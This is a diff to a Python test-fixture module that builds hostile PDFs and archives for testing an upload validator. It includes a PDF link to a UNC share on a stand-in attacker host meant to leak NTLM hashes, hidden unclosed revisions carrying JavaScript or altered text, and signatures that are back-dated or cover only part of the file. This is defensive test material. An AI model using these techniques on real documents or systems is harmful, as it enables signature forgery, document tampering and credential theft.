@@ -1,9 +1,22 @@
 """Files for upload tests, all generated here: good JPGs and PDFs, signed PDFs, and
-the hostile ones (disguised types, active content, bombs, broken and encrypted)."""
+the hostile ones (disguised types, active content, bombs, broken and encrypted, hidden
+revisions, trailing data, links to other files, partial or back-dated signatures)."""
 
+import asyncio
+import datetime
+import hashlib
+import re
+import zipfile
 from io import BytesIO
+from unittest import mock
 
 from PIL import Image
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.sign import signers
+from pyhanko.sign.signers import pdf_signer as pyhanko_pdf_signer
+from pyhanko.sign.signers.pdf_byterange import PreparedByteRangeDigest
+from pyhanko_certvalidator.registry import SimpleCertificateStore
 from pypdf import PdfWriter
 from pypdf.generic import (
     ArrayObject,
@@ -168,6 +181,176 @@ def pdf_submit_form() -> bytes:
             ),
         )
     )
+
+
+def _link(action: DictionaryObject) -> bytes:
+    return _pdf_with(
+        lambda w: _annotation(
+            w,
+            DictionaryObject(
+                {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}
+            ),
+        )
+    )
+
+
+def pdf_goto_remote_unc() -> bytes:
+    """A link to a PDF on a network share: clicking it from Windows sends the
+    officer's NTLM hash to that host."""
+    return _link(
+        _action(
+            "/GoToR",
+            **{
+                "/F": TextStringObject("\\\\atacante.example\\docs\\ruc.pdf"),
+                "/D": ArrayObject([NumberObject(0), NameObject("/Fit")]),
+            },
+        )
+    )
+
+
+def pdf_goto_embedded() -> bytes:
+    return _link(
+        _action(
+            "/GoToE",
+            **{
+                "/F": TextStringObject("\\\\atacante.example\\docs\\anexo.pdf"),
+                "/T": DictionaryObject({NameObject("/R"): NameObject("/C")}),
+            },
+        )
+    )
+
+
+def pdf_uri(target: str) -> bytes:
+    return _link(_action("/URI", **{"/URI": TextStringObject(target)}))
+
+
+def _appended_revision(data: bytes, change) -> bytes:
+    """`data` plus one incremental update made by `change(writer)`."""
+    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
+    change(writer)
+    output = BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def _open_with_javascript(writer) -> None:
+    script = writer.add_object(
+        generic.DictionaryObject(
+            {
+                generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
+                generic.pdf_name("/JS"): generic.pdf_string("app.alert('hola');"),
+            }
+        )
+    )
+    writer.root[generic.pdf_name("/OpenAction")] = script
+    writer.update_root()
+
+
+def _replace_first_page_text(writer) -> None:
+    page = writer.root["/Pages"]["/Kids"][0].get_object()
+    content = generic.StreamObject(
+        stream_data=b"BT /F1 24 Tf 72 720 Td (PODER AMPLIO A FAVOR DE UN TERCERO) Tj ET"
+    )
+    page[generic.pdf_name("/Contents")] = writer.add_object(content)
+    writer.update_container(page)
+
+
+def without_closing_eof(data: bytes) -> bytes:
+    """The last revision without its %%EOF: pypdf and pyHanko skip it entirely,
+    poppler and pdf.js show it."""
+    body = data.rstrip()
+    assert body.endswith(b"%%EOF")
+    return body[: -len(b"%%EOF")]
+
+
+def pdf_shadow_javascript() -> bytes:
+    """A clean scan, then a revision that runs JavaScript on opening, left unclosed."""
+    return without_closing_eof(_appended_revision(pdf(), _open_with_javascript))
+
+
+def shadow_revision(signed: bytes) -> bytes:
+    """A signed document, then a revision that changes the page text, unclosed."""
+    return without_closing_eof(_appended_revision(signed, _replace_first_page_text))
+
+
+def later_revision(signed: bytes, *, javascript: bool = False) -> bytes:
+    """A signed document, then a properly closed revision (text or JavaScript)."""
+    change = _open_with_javascript if javascript else _replace_first_page_text
+    return _appended_revision(signed, change)
+
+
+def zip_with_html() -> bytes:
+    output = BytesIO()
+    with zipfile.ZipFile(output, "w") as archive:
+        archive.writestr("index.html", "<html><script>alert(1)</script></html>")
+    return output.getvalue()
+
+
+def signer_with(ca, identification: str, **options):
+    return signer_create(
+        ca=ca, holder_name="JUAN CARLOS PEREZ", identification=identification, **options
+    )
+
+
+def sign_at(document, ca, signer, when: datetime.datetime, **options) -> bytes:
+    """Sign with the signer's clock set to `when`, as anyone can set their own."""
+
+    class Clock(datetime.datetime):
+        @classmethod
+        def now(cls, tz=None):
+            return when.astimezone(tz) if tz else when.replace(tzinfo=None)
+
+    with mock.patch.object(pyhanko_pdf_signer, "datetime", Clock):
+        return pdf_sign(
+            bytes(document.content),
+            signer=signer,
+            ca=ca,
+            field_name=SIGNATURE_FIELD_NAME,
+            **options,
+        )
+
+
+def sign_back_dated_expired(document, ca, identification: str) -> bytes:
+    """A certificate that expired 30 days ago, the signing time set 60 days back."""
+    now = datetime.datetime.now(datetime.UTC)
+    day = datetime.timedelta(days=1)
+    signer = signer_with(
+        ca, identification, not_before=now - 400 * day, not_after=now - 30 * day
+    )
+    return sign_at(document, ca, signer, now - 60 * day)
+
+
+def sign_partial_coverage(document, ca, identification: str) -> bytes:
+    """A valid signature whose byte range stops before the end of its revision: the
+    closing startxref and %%EOF lie outside it, free to point anywhere."""
+    signer = signer_with(ca, identification)
+    simple = signers.SimpleSigner(
+        signing_cert=signer.asn1_cert,
+        signing_key=signer.asn1_key,
+        cert_registry=SimpleCertificateStore.from_certs([ca.asn1_cert]),
+    )
+    signing = signers.PdfSigner(
+        signers.PdfSignatureMetadata(field_name=SIGNATURE_FIELD_NAME), signer=simple
+    )
+    prepared, _tbs, output = asyncio.run(
+        signing.async_digest_doc_for_signing(
+            IncrementalPdfFileWriter(BytesIO(bytes(document.content)), strict=False)
+        )
+    )
+    data = bytearray(output.getvalue())
+    start, end = prepared.reserved_region_start, prepared.reserved_region_end
+    signed_end = data.rindex(b"startxref")
+    brackets = re.search(rb"/ByteRange\s*(\[[^\]]*\])", data)
+    new_range = f"[0 {start} {end} {signed_end - end}]".encode()
+    width = brackets.end(1) - brackets.start(1)
+    data[brackets.start(1) : brackets.end(1)] = new_range.ljust(width)
+    digest = hashlib.sha256(bytes(data[:start] + data[end:signed_end])).digest()
+    cms = asyncio.run(simple.async_sign(digest, "sha256", use_pades=True))
+    result = BytesIO(bytes(data))
+    PreparedByteRangeDigest(
+        document_digest=digest, reserved_region_start=start, reserved_region_end=end
+    ).fill_with_cms(result, cms)
+    return result.getvalue()
 
 
 def pdf_encrypted() -> bytes:
